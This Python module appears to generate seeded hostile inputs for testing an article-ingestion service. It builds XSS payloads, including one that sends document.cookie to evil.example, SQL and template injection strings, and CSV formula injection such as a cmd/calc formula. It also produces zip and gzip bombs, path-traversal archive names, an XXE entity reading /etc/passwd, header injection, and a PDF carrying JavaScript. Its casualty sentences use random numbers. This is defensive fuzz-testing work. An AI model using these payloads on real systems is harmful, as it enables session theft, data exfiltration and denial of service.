"""Articles that want to be more than text, made up by chance from a seed: no two are the same."""

from __future__ import annotations

import gzip
import io
import json
import struct
import zipfile
from collections.abc import Callable, Iterator
from dataclasses import dataclass
from itertools import cycle
from random import Random
from typing import Any

WORDS = ("حلب", "کندز", "موصل", "خارطوم", "پیشاور", "کابل", "صنعا", "غزه")
EVENTS = ("حمله هوایی", "انفجار", "درگیری")
TAGS = "img svg video audio body input details marquee iframe object embed math a button form select style b".split()
HANDLERS = "onerror onload onclick onfocus onmouseover ontoggle onanimationstart onbegin onpointerenter onblur".split()
CALLS = ("alert", "confirm", "prompt", "fetch", "eval", "import", "open", "print")
CONTROLS = "\u202a\u202b\u202c\u202d\u202e\u2066\u2067\u2068\u2069\u200e\u200f\u061c\u200b\u2060\ufeff\u00ad"
FORMULAS = ("=", "+", "-", "@", "\t=", "=HYPERLINK", "=cmd|'/C calc'!A0", "＝", "@SUM", "=IMPORTXML")
HOST = "evil.example"


@dataclass(frozen=True, slots=True)
class Attack:
    """What is handed in.

    Attributes:
        family: what it tries.
        way: ``paste`` (the form for texts), ``api`` (the same as JSON) or ``file``.
        fields: of a text: what goes with it.
        name, data: of a file.
        whole: the text must be stored just so, for it is a text like any other.
    """

    family: str
    way: str
    fields: dict[str, str]
    name: str = ""
    data: bytes = b""
    whole: bool = False

    def key(self) -> tuple[object, ...]:
        """What makes it another one than others."""
        return self.way, tuple(sorted(self.fields.items())), self.name, self.data


def sentence(chance: Random) -> str:
    """A sentence with an event in it, so that what is around it comes to every page."""
    count = chance.randint(2, 900)
    return f"به گزارش سانا، در {chance.choice(EVENTS)} به شهر {chance.choice(WORDS)} {count} نفر کشته شدند. "


def _call(chance: Random) -> str:
    return f"{chance.choice(CALLS)}({chance.randint(1, 9999)})"


def _around(chance: Random, attack: str) -> str:
    return f"{sentence(chance)}{attack} {sentence(chance)}"


def _scripts(chance: Random) -> str:
    call = _call(chance)
    return chance.choice(
        (
            f"<script>{call}</script>",
            f"</div></main><script src=//{HOST}/{chance.randint(1, 999)}.js></script>",
            f'"><scr<script>ipt>{call}</script>',
            f"<ScRiPt\n>{call}</sCrIpT >",
            f"<script>fetch('https://{HOST}/?'+document.cookie)</script>{chance.randint(1, 99)}",
            f"javascript:{call}//<script>",
            f"<script type=module>import('//{HOST}/{chance.randint(1, 99)}')</script>",
        )
    )


def _handlers(chance: Random) -> str:
    quote = chance.choice(("", '"', "'", "`"))
    handler = chance.choice(HANDLERS)
    return f"<{chance.choice(TAGS)} src=x tabindex=0 autofocus {handler}={quote}{_call(chance)}{quote}>"


def _svg(chance: Random) -> str:
    inner = chance.choice(
        (
            f"<script>{_call(chance)}</script>",
            f"<animate onbegin={_call(chance)} attributeName=x dur=1s>",
            f"<a xlink:href='javascript:{_call(chance)}'><text y=20>x</text></a>",
            f"<foreignObject><iframe srcdoc='&lt;script&gt;{_call(chance)}'></iframe></foreignObject>",
            f"<use href='//{HOST}/{chance.randint(1, 99)}.svg#x'/>",
            f"<image href='http://{HOST}/{chance.randint(1, 99)}.png'/>",
        )
    )
    return f'<svg xmlns="http://www.w3.org/2000/svg" onload={_call(chance)}>{inner}</svg>'


def _style(chance: Random) -> str:
    number = chance.randint(1, 999)
    return chance.choice(
        (
            f"<style>@import '//{HOST}/{number}.css';*{{display:none}}</style>",
            f'" style="position:fixed;inset:0;background:url(//{HOST}/{number})',
            f"<link rel=stylesheet href=//{HOST}/{number}.css>",
            f"</style><style>input[value^=a]{{background:url(https://{HOST}/{number})}}",
            f"<div style=width:expression({_call(chance)})>",
        )
    )


def _turning(chance: Random) -> str:
    return "".join(chance.choices(CONTROLS, k=chance.randint(3, 80))) + " ".join(chance.choices(WORDS, k=3))


def _marks(chance: Random) -> str:
    marks = [chr(code) for code in (*range(0x300, 0x36F), *range(0x64B, 0x65F), 0x489, 0x20E3)]
    return chance.choice("احZ") + "".join(chance.choices(marks, k=chance.randint(500, 8_000)))


def _templates(chance: Random) -> str:
    number = chance.randint(2, 99)
    return chance.choice(
        (
            f"{{{{ {number} * {number} }}}}{{% raw %}}",
            f"${{{number}*{number}}}#{{{number}}}<%= {number} %>",
            f"{{0.__class__.__mro__}} {number} {{request}} %({number})s %n%s",
            f"'; DROP TABLE article; -- {number}",
            f"') UNION SELECT text FROM article LIMIT {number} --",  # noqa: S608 - that is the attack
            f"]]><!--#exec cmd='id' {number}--><?php system({number}) ?>",
        )
    )


def _text(family: str, make: Callable[[Random], str], way: str) -> Callable[[Random], Attack]:
    """Attacks within a text and in all that is told of it."""

    def made(chance: Random) -> Attack:
        attack = make(chance)
        # Long runs fit into the text alone.
        short = attack[:400]
        told = {"text": _around(chance, attack), "title": short, "outlet": f"سانا {short}"}
        told["url"] = f"{chance.choice(('javascript:', 'data:text/html,', f'http://{HOST}/', 'file:///'))}{short}"
        return Attack(family, way, told, whole=True)

    return made


def _file(family: str, make: Callable[[Random], tuple[str, bytes]]) -> Callable[[Random], Attack]:
    """Attacks in a file."""

    def made(chance: Random) -> Attack:
        name, data = make(chance)
        return Attack(family, "file", {}, name, data)

    return made


def _null(chance: Random) -> tuple[str, bytes]:
    text = list(sentence(chance))
    for _ in range(chance.randint(1, 5)):
        text.insert(chance.randrange(len(text)), chance.choice("\0\x01\x07\x1b\x7f\x85"))
    return f"n{chance.randint(1, 999)}.txt", "".join(text).encode()


def _broken(chance: Random) -> tuple[str, bytes]:
    data = bytearray(_around(chance, "").encode(chance.choice(("utf-8", "utf-16-le", "utf-16-be"))))
    for _ in range(chance.randint(1, 12)):
        data[chance.randrange(len(data))] = chance.choice((0xFF, 0xC0, 0xFE, 0xD8, 0x80, 0xED))
    return f"b{chance.randint(1, 999)}.txt", bytes(data)


def _long(chance: Random) -> tuple[str, bytes]:
    line = (sentence(chance) * 80_000).encode()[: 10_000_000 + chance.randint(0, 999)]
    return f"l{chance.randint(1, 999)}.{chance.choice(('txt', 'json', 'jsonl', 'csv'))}", line


def _zipped(members: list[tuple[str, bytes]]) -> bytes:
    packed = io.BytesIO()
    with zipfile.ZipFile(packed, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, data in members:
            archive.writestr(zipfile.ZipInfo(name), data, zipfile.ZIP_DEFLATED)
    return packed.getvalue()


def _bomb(chance: Random) -> tuple[str, bytes]:
    size = chance.randint(66_000_000, 70_000_000)
    if chance.random() < 0.5:
        return f"g{chance.randint(1, 999)}.txt.gz", gzip.compress(b"0" * size, mtime=0)
    return f"z{chance.randint(1, 999)}.zip", _zipped([("a.txt", b"0" * size)])


def _lying(chance: Random) -> tuple[str, bytes]:
    """An archive that tells another size than what comes out, or is cut off."""
    data = bytearray(_zipped([("a.txt", _around(chance, "").encode() * 50)]))
    if chance.random() < 0.5:
        at = data.rindex(b"PK\x01\x02")
        data[at + 24 : at + 28] = struct.pack("<I", chance.randint(1, 2**31))
    else:
        del data[chance.randrange(20, len(data) - 4) :]
    return f"y{chance.randint(1, 999)}.zip", bytes(data)


def _nested(chance: Random) -> tuple[str, bytes]:
    data, name = _around(chance, "").encode(), "a.txt"
    for depth in range(chance.randint(2, 6)):
        data, name = _zipped([(name, data)]), f"{depth}.zip"
    if chance.random() < 0.3:
        return "n.zip.gz", gzip.compress(data, mtime=0)
    return f"n{chance.randint(1, 999)}.zip", data


def _climbing(chance: Random) -> tuple[str, bytes]:
    names = ("../../etc/cron.d/x.txt", "/etc/passwd.txt", "C:\\windows\\x.txt", "..\\..\\x.txt", "a/../../../b.txt",
             "~/.ssh/x.txt", "a\r\nSet-Cookie: x=1.txt", "<script>alert(1)</script>.txt", "\u202ea.txt")  # fmt: skip
    found = [(f"{chance.randint(1, 9)}{name}" if number else name, sentence(chance).encode())
             for number, name in enumerate(chance.sample(names, k=chance.randint(2, 5)))]  # fmt: skip
    return f"c{chance.randint(1, 999)}.zip", _zipped(found)


def _laughs(chance: Random) -> tuple[str, bytes]:
    width, depth = chance.randint(8, 12), chance.randint(8, 14)
    entities = "".join(f'<!ENTITY l{n} "{f"&l{n - 1};" * width}">' for n in range(1, depth))
    outside = f'<!ENTITY f SYSTEM "{chance.choice(("file:///etc/passwd", f"http://{HOST}/x"))}">'
    page = f'<?xml version="1.0"?><!DOCTYPE html [<!ENTITY l0 "خنده {chance.randint(1, 999)}">{entities}{outside}]>'
    text = _around(chance, f"&l{depth - 1};&f;")
    page += f"<html><head><title>&l{depth - 1};</title></head><body><p>{text}</p></body></html>"
    return f"x{chance.randint(1, 999)}.{chance.choice(('html', 'xhtml'))}", page.encode()


def _page(chance: Random) -> tuple[str, bytes]:
    attack = chance.choice((_scripts, _handlers, _svg, _style))(chance)
    head = f"<title>{chance.choice(WORDS)} {attack}</title><base href=//{HOST}/>"
    head += f"<meta http-equiv=refresh content='0;//{HOST}'>"
    body = "".join(f"<p>{_around(chance, attack)}</p>" for _ in range(3))
    body = f"<article>{body}</article><iframe src=//{HOST}></iframe>"
    page = f"<!doctype html><html><head>{head}</head><body>{body}</body></html>"
    return f"p{chance.randint(1, 999)}.html", page.encode()


def _json(chance: Random) -> tuple[str, bytes]:
    text = json.dumps(sentence(chance))
    depth, number = chance.randint(2_000, 200_000), chance.randint(1, 99)
    made = chance.choice(
        (
            f'{{"text": {"[" * depth}{"]" * depth}}}',
            f'{{"text": {text}, "published": {"9" * chance.randint(5_000, 9_000)}}}',
            f'{{"text": {text}, "__proto__": {{"x": {number}}}, "doc": "../../{number}"}}',
            f'{{"text": {text}, "text": "\\ud800 {number}"}}',
            f'{{"text": {text}, "title": NaN, "killed": {chance.random()}}}',
            f'{{"text": {text}, "title": "\\u0000\\u202e{number}", "outlet": {{"a": 1}}}}',
        )
    )
    return f"j{chance.randint(1, 999)}.json", made.encode()


def _table(chance: Random) -> tuple[str, bytes]:
    formula = f"{chance.choice(FORMULAS)}({chance.randint(1, 9999)})"
    rows = f'text,outlet,title\r\n"{sentence(chance)}","{formula}","{formula}"\r\n"{formula}","{"x" * 300}"\r\n'
    return f"t{chance.randint(1, 999)}.csv", rows.encode()


def _pdf(chance: Random) -> tuple[str, bytes]:
    body = f"%PDF-1.7\n1 0 obj<</Type/Catalog/OpenAction<</S/JavaScript/JS({_call(chance)})>>/Pages 2 0 R>>endobj\n"
    body += f"2 0 obj<</Type/Pages/Kids[2 0 R]/Count {chance.randint(1, 10**9)}>>endobj\ntrailer<</Root 1 0 R>>\n"
    return f"d{chance.randint(1, 999)}.pdf", body.encode() + chance.randbytes(chance.randint(10, 500))


def _headers(chance: Random) -> tuple[str, bytes]:
    line = chance.choice(("\r\nSet-Cookie: ravayat=1", "\nX-Evil: 1", "%0d%0aLocation: /", '"; filename="x.exe'))
    return f"h{chance.randint(1, 999)}{line}.txt", _around(chance, line).encode()


def _formula(chance: Random) -> str:
    return f"{chance.choice(FORMULAS)}({chance.randint(1, 9999)}+{chance.randint(1, 99)})"


def _telegram(chance: Random) -> tuple[str, bytes]:
    attack = _handlers(chance)
    message: dict[str, Any] = {"id": chance.randint(1, 999), "type": "message", "date": "2016-09-01T10:00:00"}
    message |= {"from": attack, "forwarded_from": _scripts(chance)}
    message["text"] = [sentence(chance), {"type": "text_link", "text": attack, "href": f"javascript:{_call(chance)}"}]
    export = {
        "name": f"کانال {attack}",
        "type": "public_channel",
        "id": 1,
        "messages": [message, {"id": {}, "text": 7}],
    }
    return f"result{chance.randint(1, 999)}.json", json.dumps(export, ensure_ascii=False).encode()


_TEXTS = (("script", _scripts), ("handler", _handlers), ("svg", _svg), ("style", _style), ("direction", _turning),
          ("combining", _marks), ("template", _templates), ("formula", _formula))  # fmt: skip
_LIGHT: tuple[Callable[[Random], Attack], ...] = (
    *(_text(family, make, way) for family, make in _TEXTS for way in ("paste", "api")),
    *(
        _file(family, make)
        for family, make in (
            ("null", _null), ("encoding", _broken), ("lying archive", _lying), ("nested archive", _nested),
            ("climbing names", _climbing), ("entities", _laughs), ("page", _page), ("json", _json), ("table", _table),
            ("pdf", _pdf), ("headers", _headers), ("telegram", _telegram),
        )
    ),
)  # fmt: skip
_HEAVY = (_file("ten megabytes", _long), _file("bomb", _bomb))
HEAVY_EACH = 3
"""Of these few: each takes a second or more to make."""


def attacks(seed: int, count: int) -> Iterator[Attack]:
    """So many attacks, each another one, of all families."""
    chance = Random(seed)
    makers = [*_HEAVY * HEAVY_EACH]
    kinds = cycle(_LIGHT)
    makers += [next(kinds) for _ in range(count - len(makers))]
    chance.shuffle(makers)
    seen = set()
    for make in makers:
        attack = make(chance)
        while attack.key() in seen:
            attack = make(chance)
        seen.add(attack.key())
        yield attack
